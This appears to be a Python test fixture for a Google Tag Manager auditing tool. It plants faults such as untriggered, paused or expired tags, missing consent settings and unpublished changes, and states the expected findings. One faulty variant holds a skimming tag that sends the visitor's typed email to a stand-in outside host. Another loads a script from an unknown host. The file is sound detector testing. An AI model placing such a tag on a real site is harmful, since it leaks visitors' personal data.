"""What the published container's own file shows."""

from __future__ import annotations

from dataclasses import replace

from sites.build import (
    GA4_BASE,
    KIT,
    ORDER,
    PROPERTY,
    Plant,
    Site,
    Tag,
    found,
    ga4,
    page,
    push,
    snippet,
    tag,
)
from sites.orders import PURCHASE

LEAD = tag("club_joined", "meta('track', 'Lead')", html="<script>fbq('track', 'Lead')</script>")
NEVER_ENDED = 4_102_444_800_000
"""The first of January 2100."""
ASKED = """
consent:
  ignore:
    signals: denied
    forbid: [advertising]
"""


def a_page(slug: str, *tags: Tag) -> Site:
    """A page with a form, and a container with Google's tag and these."""
    form = '<form><label>Email <input name="email"></label></form>'
    return Site(
        container=(GA4_BASE, *tags), pages={"": page(form, head=snippet(slug), title="Club")}
    )


def a_shop(slug: str, *tags: Tag) -> Site:
    """A basket with a link that orders, and a page of thanks."""
    head = snippet(slug)
    thanks = push("purchase", ecommerce=ORDER) + "Thank you"
    return Site(
        container=tags,
        pages={
            "": page('<a href="thanks">Order</a>', head=head, title="Basket"),
            "thanks": page(thanks, head=head, title="Thanks"),
        },
    )


def no_trigger(planted: bool) -> Site:
    """Somebody took the trigger off the tag of the club, and never put another."""
    return a_page("tag-without-trigger", replace(LEAD, is_triggered=not planted))


def contradiction(planted: bool) -> Site:
    """The trigger asks for one event and, in a condition, for another."""
    when = ("_eq", "event", "club_left") if planted else ("_cn", "path", "/club")
    lead = replace(LEAD, when=(when,), where="false")
    return a_page("tag-without-trigger-contradiction", lead)


def paused(planted: bool) -> Site:
    """A conversion was paused for a while."""
    asleep = tag("club_joined", "", kind="paused", originalTagType="awct")
    return a_page("paused-tag", *((asleep,) if planted else (LEAD,)))


def schedule_over(planted: bool) -> Site:
    """The tag was for a campaign that is over."""
    ends = 1_700_000_000_000 if planted else NEVER_ENDED
    return a_page("schedule-over", LEAD.with_file(end_time=ends))


def dangling(planted: bool) -> Site:
    """The variable with the coupon was renamed, and the tag still has the old name."""
    coupon = "{{Coupon}}" if planted else ["macro", 3]
    table = ["list", ["map", "parameter", "coupon", "parameterValue", coupon]]
    purchase = tag("purchase", 'google("event", "purchase", ecommerce)', kind="gaawe",
                   eventName="purchase", measurementIdOverride=PROPERTY,
                   eventSettingsTable=table)  # fmt: skip
    return a_shop("dangling-reference", GA4_BASE, purchase)


def no_consent(planted: bool) -> Site:
    """A pixel waits on the club's page of welcome for whoever comes, whatever they chose."""
    pixel = replace(LEAD, on="gtm.load", when=(("_cn", "path", "/welcome"),), where="false")
    asking = {} if planted else {"consent": ["list", "ad_storage"]}
    return a_page("no-consent-settings", pixel.with_file(**asking))


def reading(planted: bool) -> Site:
    """A tag takes the address from the form and sends it away as it is typed."""
    field = "document.querySelector('input[name=email]').value"
    code = (
        f"new Image().src = 'https://elsewhere.example/p?e=' + encodeURIComponent({field})"
        if planted
        else "new Image().src = 'https://elsewhere.example/p?e=seen'"
    )
    return a_page("unsafe-custom-html", tag("gtm.formSubmit", "", html=f"<script>{code}</script>"))


def foreign(planted: bool) -> Site:
    """A tag brings a script from a host that nobody knows."""
    host = "elsewhere.example" if planted else "shop.example"
    html = f'<script async src="https://{host}/widget.js"></script>'
    return a_page("unsafe-custom-html-foreign", tag("gtm.formSubmit", "", html=html))


def no_config(planted: bool) -> Site:
    """Somebody deleted the Google tag, since the event tag has its own measurement id."""
    by_itself = f'google("config", "{PROPERTY}", {{send_page_view: false}});'
    event = ga4("purchase")
    tags = (replace(event, run=by_itself + event.run),) if planted else (GA4_BASE, event)
    return a_shop("event-tag-without-config", *tags)


def drift(planted: bool) -> Site:
    """The club's tag was set up, tried in the preview, and never published."""
    return a_page("container-drift", *(() if planted else (LEAD,)))


PLANTS = (
    Plant(
        slug="tag-without-trigger",
        build=no_trigger,
        crawl=("",),
        expect=found(("tag-without-trigger", "gtm")),
    ),
    Plant(
        slug="tag-without-trigger",
        name="contradiction",
        build=contradiction,
        crawl=("",),
        expect=found(("tag-without-trigger", "gtm")),
    ),
    Plant(slug="paused-tag", build=paused, crawl=("",), expect=found(("paused-tag", "gtm"))),
    Plant(
        slug="schedule-over",
        build=schedule_over,
        crawl=("",),
        expect=found(("schedule-over", "gtm")),
    ),
    Plant(
        slug="dangling-reference",
        build=dangling,
        goal=PURCHASE,
        expect=found("dangling-reference"),
    ),
    Plant(
        slug="no-consent-settings",
        build=no_consent,
        crawl=("",),
        spec=ASKED,
        expect=found(("no-consent-settings", "ignore", "meta")),
    ),
    Plant(
        slug="unsafe-custom-html",
        build=reading,
        crawl=("",),
        expect=found(("unsafe-custom-html", "gtm")),
    ),
    Plant(
        slug="unsafe-custom-html",
        name="foreign",
        build=foreign,
        crawl=("",),
        expect=found(("unsafe-custom-html", "gtm")),
    ),
    Plant(
        slug="event-tag-without-config",
        build=no_config,
        goal=PURCHASE,
        expect=found("event-tag-without-config"),
    ),
    Plant(
        slug="container-drift",
        build=drift,
        crawl=("",),
        spec=f"container: {KIT / 'export.json'}",
        expect=found(("container-drift", "gtm")),
    ),
)
